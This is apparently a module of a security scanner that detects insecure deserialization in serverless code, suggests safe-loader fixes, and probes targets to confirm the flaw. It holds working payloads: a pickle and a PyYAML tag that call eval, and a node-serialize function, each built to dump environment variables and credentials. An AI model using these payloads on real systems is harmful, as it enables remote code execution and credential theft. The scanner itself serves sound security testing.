//! Bytes of a caller become objects of whatever class they name.

use crate::entry::Danger;
use crate::flow::{self, Sinks};
use crate::probe::{self, Probe};
use crate::{Attack, source};
use crate::{Profile, Proved, Reason, Risk};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use model::attack::Outcome;
use model::code::{EventSource, Flow, SinkKind};
use model::{App, Finding, Fix, Foothold, Target};

/// The risk.
pub const RISK: Risk = Risk {
    slug: SLUG,
    page: include_str!("risk.md"),
    profile: Profile::Default,
    check,
    attack: Ok(Attack { foothold: Foothold::Anyone, plant: probe::plant, run }),
    detections: &[],
    without: &[(Proved::Detected, Reason::NoLog)],
};

const SLUG: &str = "insecure-deserialization";

const SINKS: Sinks = Sinks { slug: SLUG, takes, says: |_| "makes objects of", danger: |_| Danger::Takeover, credentials: true, fix };

fn check(app: &App) -> Vec<Finding> {
    let mut findings = flow::findings(app, &SINKS);
    findings.retain(|finding| !flow::of(app, finding, takes).iter().all(|(_, _, flow)| is_plain(app, flow)));
    findings
}

/// js-yaml reads plain data alone since version 4 (its changelog, 4.0.0).
fn is_plain(app: &App, flow: &Flow) -> bool {
    let call = source::text(app, &flow.sink_at).unwrap_or_default();
    let yaml =
        ["yaml.load(", "jsyaml.load(", "YAML.load("].iter().any(|name| call.starts_with(name)) && !flow.sink_at.file.ends_with(".py");
    let manifests = app.sources.values().filter(|source| source.path.ends_with("package.json"));
    let version = manifests.filter_map(|source| {
        let manifest: serde_json::Value = serde_json::from_str(&source.text).ok()?;
        let range = manifest.get("dependencies")?.get("js-yaml")?.as_str()?;
        range.trim_start_matches(['^', '~', '>', '=', 'v', ' ']).split('.').next()?.parse::<u32>().ok()
    });
    yaml && version.min().is_some_and(|major| major >= 4)
}

fn takes(flow: &Flow) -> bool {
    matches!(flow.sink, SinkKind::Deserialize)
}

/// A reader of plain data in the place of one that makes objects, where one stands beside it under another name.
fn fix(app: &App, flow: &Flow) -> Option<Fix> {
    let call = source::text(app, &flow.sink_at)?;
    // `JSON.parse` reads a text; what may be an object already (`event.headers`) it does not.
    let is_text = matches!(
        flow.source,
        EventSource::Body(_) | EventSource::PathParameter(_) | EventSource::Query(_) | EventSource::Header(_) | EventSource::Trigger(..)
    );
    let (old, new, says) = [
        ("yaml.unsafe_load(", "yaml.safe_load(", "read plain YAML"),
        ("yaml.full_load(", "yaml.safe_load(", "read plain YAML"),
        ("serialize.unserialize(", "JSON.parse(", "read plain JSON"),
    ]
    .into_iter()
    .find(|(old, new, _)| call.starts_with(old) && (is_text || *new != "JSON.parse("))?;
    let edit = source::replace_once(app, &flow.sink_at, old, new)?;
    // Callers that sent objects of a class are no longer understood; that is the point.
    Some(Fix { says: says.into(), safe: false, edits: vec![edit], then: None })
}

/// An expression of Python: a text with the environment that also answers as an object of any class would whose fields were asked for.
macro_rules! object {
    () => {
        concat!(
            "type(\"x\",(str,),{\"__getitem__\":lambda s,k:s,\"__getattr__\":lambda s,k:s,\"get\":lambda s,*k:s})",
            "(dict(__import__(\"os\").environ))"
        )
    };
}

/// A pickle (protocol 0, which is plain text) that calls `eval`.
const PICKLE: &str = concat!("cbuiltins\neval\n(S'", object!(), "'\ntR.");
/// The same for readers of YAML that make objects (PyYAML's `Loader` and `UnsafeLoader`).
const YAML: &str = concat!("!!python/object/apply:builtins.eval ['", object!(), "']");

/// A function that is called while it is read (node-serialize): the next text that is made is an answer with the environment, and
/// everything is as it was after that.
const NODE_SERIALIZE: &str = concat!(
    "{\"x\":\"_$$ND_FUNC$$_function(){var s=JSON.stringify;JSON.stringify=function(){JSON.stringify=s;",
    "return s({statusCode:200,body:s(process.env)})}}()\"}"
);

fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
    // A pickle is bytes, which travel as base64.
    let encoded = STANDARD.encode(PICKLE);
    let payloads = [NODE_SERIALIZE, &encoded, PICKLE, YAML];
    probe::run(app, findings, target, outcome, &Probe { takes, payloads: &payloads, shows: "AWS_LAMBDA_FUNCTION_NAME" });
}
